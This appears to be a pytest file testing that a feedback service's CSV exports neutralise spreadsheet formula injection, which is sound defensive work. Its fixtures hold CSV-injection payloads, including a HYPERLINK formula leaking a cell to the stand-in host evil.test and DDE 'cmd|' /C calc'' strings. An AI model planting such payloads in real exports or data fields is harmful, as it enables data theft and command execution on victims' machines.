"""Every CSV export, API and dashboard, with customer- and helpdesk-typed text that a
spreadsheet would run as a formula: no such cell leaves the service un-neutralised,
and numbers the service writes (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from feedback_service.demo import planted, planted_db
from feedback_service.demo.cli import rebuild_rollups
from feedback_service.demo.seed import DemoSummary, seed_demo
from feedback_service.helpdesk.models import Agent, Ticket
from feedback_service.surveys.models import Response
from tests.api.test_dashboard import PASSWORD, sign_in

AGENT_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Open")'
FORMULAS = ["=1+2", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLANT = planted.Plant(pattern_category="rude", pattern_extra_rate=0.08, bug_rate=0.03)
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


@pytest.fixture
def demo_with_formulas(db_session: Session) -> tuple[DemoSummary, str]:
    """The demo data, with an agent's name, comments and a product that are formulas."""
    summary = seed_demo(db_session, days=35, agents=8, seed=5, password=PASSWORD)
    agent = db_session.scalars(select(Agent).order_by(Agent.id)).first()
    assert agent is not None
    agent.name = AGENT_NAME
    commented = db_session.scalars(
        select(Response.id)
        .where(Response.agent_id == agent.id, Response.comment.is_not(None))
        .order_by(Response.submitted_at.desc())
        .limit(len(FORMULAS))
    ).all()
    assert len(commented) == len(FORMULAS)
    for response_id, formula in zip(commented, FORMULAS, strict=True):
        db_session.execute(
            update(Response).where(Response.id == response_id).values(comment=formula)
        )
    db_session.execute(
        update(Ticket).where(Ticket.agent_id == agent.id).values(product="-evil product")
    )
    rebuild_rollups(db_session)
    external_id = agent.external_id
    db_session.commit()
    return summary, external_id


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(path: str, text: str) -> list[str]:
    cells = cells_of(text)
    assert len(cells) > 1, f"{path} exported nothing"
    unsafe = [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert unsafe == [], f"{path}: {unsafe[:5]}"
    return cells


def _range() -> str:
    today = dt.datetime.now(dt.UTC).date()
    return f"from={(today - dt.timedelta(days=40)).isoformat()}&to={today.isoformat()}"


def test_every_api_csv_export_is_spreadsheet_safe(
    client: FlaskClient, auth: Any, demo_with_formulas: tuple[DemoSummary, str]
) -> None:
    _summary, agent = demo_with_formulas
    headers = auth("reports")
    span = _range()
    exports = {
        "summary": f"/api/v1/reports/summary?format=csv&{span}",
        "agents": f"/api/v1/reports/agents?format=csv&{span}",
        "agent comments": f"/api/v1/reports/agents/{agent}?format=csv&per_page=500&{span}",
        "trend": f"/api/v1/reports/trends?metric=nps&format=csv&{span}",
        "drivers": f"/api/v1/reports/drivers?format=csv&{span}",
        "comments": f"/api/v1/comments?format=csv&per_page=500&agent={agent}&{span}",
    }
    every: dict[str, list[str]] = {}
    for name, path in exports.items():
        answer = client.get(path, headers=headers)
        assert answer.status_code == 200, (name, answer.status_code, answer.get_data()[:300])
        assert answer.mimetype == "text/csv", name
        every[name] = assert_safe(path, answer.get_data(as_text=True))
    # The planted text is there, neutralised, where each export shows it.
    assert "'" + AGENT_NAME in every["agents"]
    for name in ("agent comments", "comments"):
        assert {"'" + f for f in FORMULAS} <= set(every[name]), name
    # Negative numbers written by the service are numbers, not quoted text.
    negatives = [c for cells in every.values() for c in cells if c.startswith("-")]
    assert negatives, "no negative figure in any export"
    assert all(NUMBER.fullmatch(c) for c in negatives), negatives[:5]


def test_every_dashboard_csv_export_is_spreadsheet_safe(
    client: FlaskClient, demo_with_formulas: tuple[DemoSummary, str]
) -> None:
    assert sign_in(client, "manager@demo.test").status_code == 302
    every: dict[str, list[str]] = {}
    for name in ("summary", "agents", "trend-csat", "drivers", "comments", "attribution"):
        path = f"/dashboard/exports/{name}.csv"
        answer = client.get(path)
        assert answer.status_code == 200, (path, answer.status_code)
        every[name] = assert_safe(path, answer.get_data(as_text=True))
    assert "'" + AGENT_NAME in every["agents"] or "'" + AGENT_NAME in every["comments"]
    assert {"'" + f for f in FORMULAS} <= set(every["comments"])
    assert "'-evil product" in every["comments"]


def test_pattern_report_csv_exports_are_spreadsheet_safe(
    client: FlaskClient, auth: Any, db_session: Session
) -> None:
    """Complaint patterns, adjusted CSAT and product gaps on a planted world whose
    agent names and products are formulas."""
    data = planted.generate(
        3, PLANT, teams=2, agents_per_team=4, weeks=8, responses_per_agent_week=40
    )
    world = planted_db.load_planted(db_session, data)
    db_session.execute(update(Agent).values(name="=" + Agent.external_id))
    db_session.execute(update(Ticket).values(product="@SUM(1+1)*cmd"))
    db_session.commit()
    span = f"from={world.first_day.isoformat()}&to={world.last_day.isoformat()}"
    headers = auth("reports")
    every: dict[str, list[str]] = {}
    for name, path in {
        "complaint patterns": f"/api/v1/reports/complaint-patterns?format=csv&{span}",
        "adjusted csat": (
            f"/api/v1/reports/complaint-patterns?format=csv&table=adjusted-csat&{span}"
        ),
        "product gaps": f"/api/v1/reports/product-gaps?format=csv&{span}",
    }.items():
        answer = client.get(path, headers=headers)
        assert answer.status_code == 200, (name, answer.status_code)
        every[name] = assert_safe(path, answer.get_data(as_text=True))
    assert any(c.startswith("'=") for c in every["adjusted csat"])
    assert any(c.startswith("'=") for c in every["complaint patterns"])
    assert "'@SUM(1+1)*cmd" in every["product gaps"]
